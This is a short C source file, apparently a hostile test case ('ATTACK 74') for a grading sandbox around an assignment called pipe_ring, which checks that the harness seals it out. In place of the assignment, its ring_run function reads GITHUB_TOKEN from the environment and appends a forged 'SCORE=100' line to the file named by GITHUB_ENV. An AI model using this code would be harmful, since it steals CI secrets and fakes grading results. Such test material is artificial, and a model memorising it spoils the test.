/* ATTACK 74: looks for GITHUB_TOKEN in its environment, and writes to the file that GITHUB_ENV names.
 * assignment: pipe_ring
 * gains: the job's token, forged later steps
 * expect: sealed_out
 * max-score: 0
 * layers: object, built-in
 * off: none
 */
#include "pipe_ring.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)step;
	(void)ctx;
	for (char **entry = environ; *entry; entry++) {
		if (strncmp(*entry, "GITHUB_TOKEN=", 13) == 0 && token)
			*token = strtoull(*entry + strlen("GITHUB_TOKEN=kit-hostile-"
			                                  "secret-"),
			                  NULL, 16);
		if (strncmp(*entry, "GITHUB_ENV=", 11) == 0) {
			FILE *file = fopen(*entry + 11, "a");
			if (file && fputs("SCORE=100\n", file) >= 0)
				fclose(file);
		}
	}
	return 0;
}
